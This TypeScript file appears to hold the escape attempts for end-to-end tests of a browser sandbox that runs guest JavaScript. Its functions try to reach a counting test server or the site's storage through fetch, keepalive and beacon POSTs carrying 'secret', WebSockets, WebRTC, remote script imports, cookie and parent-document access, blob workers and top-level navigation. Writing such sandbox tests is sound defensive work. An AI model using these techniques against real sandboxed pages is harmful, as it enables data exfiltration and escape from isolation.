/**
 * Attacks on the wall, as functions whose text is put into the scripts of the jail: each says what it got, or throws, or says
 * '' where only the server can tell (`TRACES` names what it then sees). They must not use anything from outside of themselves.
 * Invariant: every one of them succeeds somewhere without the wall, or it would prove nothing; the last test of jail.e2e.ts counts.
 */
/** Of classic workers, which the types of a page do not know. */
declare const importScripts: (url: string) => void

export interface Target {
  /** A server that answers everybody and counts who came. */
  hits: string
  /** Its port for datagrams. */
  udp: number
  /** The site's own origin. */
  site: string
}

/** A script of the site that may be loaded as anything and does nothing. */
export const INERT = '/inert.js'

/** What the server sees of an attack that cannot know how it went. */
export const TRACES: Record<string, string> = {
  WebTransport: '/udp',
  WebRTC: '/udp',
  'frame in the frame': '/frame.html',
  'form submission': '/form',
  beacon: '/beacon',
  'navigation of the top': '/top',
  'navigation of the frame': '/navigation',
}

export type Attack = (target: Target) => Promise<string>
export type Attacks = Record<string, Attack>

/** Ways to the network and to the site's storage that workers and documents both have. */
export const COMMON: Attacks = {
  origin: async () => {
    // Where even the word has been taken away it is undefined.
    if (self.origin === 'null' || self.origin === undefined) throw new Error('opaque')
    return self.origin
  },
  'fetch of another origin': async ({ hits }) => (await fetch(`${hits}/fetch`)).text(),
  'fetch without CORS': async ({ hits }) => (await fetch(`${hits}/no-cors`, { mode: 'no-cors' })).type,
  'fetch of the site': async ({ site }) => (await fetch(`${site}/index.html`, { mode: 'no-cors' })).type,
  'fetch of data:': async () => (await fetch('data:text/plain,inside')).text(),
  'fetch of blob:': async () => (await fetch(URL.createObjectURL(new Blob(['inside'])))).text(),
  'fetch that outlives the page': async ({ hits }) =>
    (await fetch(`${hits}/keepalive`, { keepalive: true, method: 'POST', body: 'secret' })).text(),
  XMLHttpRequest: ({ hits }) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve(request.responseText)
      request.onerror = () => reject(new Error('refused'))
      request.open('GET', `${hits}/xhr`)
      request.send()
    }),
  WebSocket: ({ hits }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${hits.replace('http', 'ws')}/socket`)
      socket.onopen = () => resolve('open')
      socket.onerror = () => reject(new Error('refused'))
    }),
  EventSource: ({ hits }) =>
    new Promise((resolve, reject) => {
      const source = new EventSource(`${hits}/events`)
      source.onopen = () => resolve('open')
      source.onerror = () => reject(new Error('refused'))
    }),
  WebTransport: async ({ udp }) => {
    const { WebTransport } = globalThis as unknown as {
      WebTransport: new (url: string) => { ready: Promise<void> }
    }
    await new WebTransport(`https://127.0.0.1:${udp}/`).ready
    return 'open'
  },
  'import of http:': async ({ hits }) => typeof (await import(`${hits}/module.js`)),
  'import of the site': async ({ site }) => typeof (await import(`${site}/inert.js`)),
  indexedDB: () =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open('keyval-store')
      request.onsuccess = () => resolve(`version ${request.result.version}`)
      request.onerror = () => reject(request.error)
    }),
  caches: async () => `${(await (await caches.open('attack')).keys()).length} entries`,
  'the origin’s private files': async () => (await navigator.storage.getDirectory()).kind,
  'cookie store': async () => {
    const { cookieStore } = globalThis as { cookieStore?: { getAll(): Promise<unknown[]> } }
    if (!cookieStore) throw new Error('none')
    return `${(await cookieStore.getAll()).length} cookies`
  },
  locks: async () => {
    const { held } = await navigator.locks.query()
    return `${held?.length} locks`
  },
  BroadcastChannel: () =>
    new Promise((resolve, reject) => {
      const channel = new BroadcastChannel('attack')
      // Other workers of the jail share its origin and may be heard; the page may not.
      channel.onmessage = ({ data }) => {
        if (data === 'the page') resolve(data)
      }
      channel.postMessage('is anybody there?')
      setTimeout(() => reject(new Error('the page did not answer')), 2000)
    }),
}

/** What only workers have. */
export const WORKER: Attacks = {
  'importScripts of http:': async ({ hits }) => {
    importScripts(`${hits}/module.js`)
    return 'ran'
  },
  'XMLHttpRequest that waits': async ({ hits }) => {
    const request = new XMLHttpRequest()
    request.open('GET', `${hits}/xhr-sync`, false)
    request.send()
    return request.responseText
  },
}

/** What the browser would let a worker do, and the machine must take away before guest JavaScript runs. */
export const GUEST: Attacks = {
  'Worker of a blob': () =>
    new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("alive")'])))
      worker.onmessage = ({ data }) => resolve(String(data))
      worker.onerror = () => reject(new Error('refused'))
    }),
  'Worker through a prototype': async () => {
    for (let place: object | null = globalThis; place; place = Object.getPrototypeOf(place)) {
      const found = Object.getOwnPropertyDescriptor(place, 'Worker')
      if (typeof found?.value === 'function') return 'found'
    }
    throw new Error('none')
  },
  'importScripts of a blob': async () => {
    importScripts(URL.createObjectURL(new Blob(['globalThis.imported = "ran"'])))
    return String(Reflect.get(globalThis, 'imported'))
  },
  'importScripts through a prototype': async () => {
    for (let place: object | null = globalThis; place; place = Object.getPrototypeOf(place)) {
      const found = Object.getOwnPropertyDescriptor(place, 'importScripts')
      if (typeof found?.value === 'function') return 'found'
    }
    throw new Error('none')
  },
}

/** What only documents have. */
export const DOCUMENT: Attacks = {
  'parent.document': async () => String(parent.document.title),
  'parent.wasmrun': async () => typeof Reflect.get(parent, 'wasmrun').spawn,
  localStorage: async () => `${localStorage.length} entries`,
  sessionStorage: async () => `${sessionStorage.length} entries`,
  cookie: async () => {
    // biome-ignore lint/suspicious/noDocumentCookie: the attack is on this very property
    document.cookie = 'attack=1'
    return document.cookie
  },
  'window.open': async ({ hits }) => {
    const opened = window.open(`${hits}/popup`)
    if (!opened) throw new Error('blocked')
    return 'opened'
  },
  'image load': ({ hits }) =>
    new Promise((resolve, reject) => {
      const image = new Image()
      image.onload = () => resolve('loaded')
      image.onerror = () => reject(new Error('refused'))
      image.src = `${hits}/image.svg`
    }),
  'style sheet': ({ hits }) =>
    new Promise((resolve, reject) => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.crossOrigin = 'anonymous'
      link.onload = () => resolve('loaded')
      link.onerror = () => reject(new Error('refused'))
      link.href = `${hits}/style.css`
      document.head.append(link)
    }),
  'script element': ({ hits }) =>
    new Promise((resolve, reject) => {
      const script = document.createElement('script')
      script.crossOrigin = 'anonymous'
      script.onload = () => resolve('loaded')
      script.onerror = () => reject(new Error('refused'))
      script.src = `${hits}/script.js`
      document.head.append(script)
    }),
  'frame in the frame': ({ hits }) =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe')
      frame.src = `${hits}/frame.html`
      // The load event comes for the refused one, too: the server's count decides.
      frame.onload = () => resolve('')
      // The document has no body yet.
      document.documentElement.append(frame)
    }),
  'form submission': ({ hits }) =>
    new Promise((resolve) => {
      const form = document.createElement('form')
      form.action = `${hits}/form`
      form.method = 'POST'
      form.target = 'form-target'
      const target = document.createElement('iframe')
      target.name = 'form-target'
      document.documentElement.append(target, form)
      form.submit()
      setTimeout(() => resolve(''), 500)
    }),
  beacon: async ({ hits }) => {
    if (!navigator.sendBeacon(`${hits}/beacon`, 'secret')) throw new Error('refused')
    return ''
  },
  SharedWorker: ({ site }) =>
    new Promise((resolve, reject) => {
      const worker = new SharedWorker(`${site}/inert.js`)
      worker.onerror = () => reject(new Error('refused'))
      setTimeout(() => resolve('started'), 500)
    }),
  'service worker': async ({ site }) =>
    (await navigator.serviceWorker.register(`${site}/service.js?attack`)).scope,
}

/** No policy stops it in a document; a worker, where guests are, has none. */
export const WEBRTC: Attacks = {
  WebRTC: async ({ udp }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] })
    peer.createDataChannel('attack')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise((resolve) => setTimeout(resolve, 1000))
    return ''
  },
}

/** Each by itself: it takes the document away. */
export const NAVIGATION: Attacks = {
  'navigation of the top': async ({ hits }) => {
    if (!top) throw new Error('no top')
    // The test looks at the page first, to know that it is up.
    await new Promise((resolve) => setTimeout(resolve, 1000))
    top.location.href = `${hits}/top`
    return ''
  },
  'navigation of the frame': async ({ hits }) => {
    location.href = `${hits}/navigation`
    return ''
  },
}

/** An attack that has not answered by then got nothing. */
const PATIENCE_MS = 2500

/** A function, as text, that runs attacks, all at once, and hands the results to `report`, an expression. */
export const attackScript = (attacks: Attacks, target: Target, report: string): string => {
  const entries = Object.entries(attacks).map(
    ([name, attack]) => `${JSON.stringify(name)}: ${attack.toString()}`,
  )
  return `async () => {
    const attacks = {${entries.join(',\n')}}
    const late = () => new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), ${PATIENCE_MS}))
    const start = async (attack) => {
      try { return 'got: ' + await Promise.race([attack(${JSON.stringify(target)}), late()]) }
      catch (error) { return 'refused: ' + error }
    }
    const running = Object.entries(attacks).map(async ([name, attack]) => [name, await start(attack)])
    const results = Object.fromEntries(await Promise.all(running))
    const send = ${report}
    send(results)
  }`
}
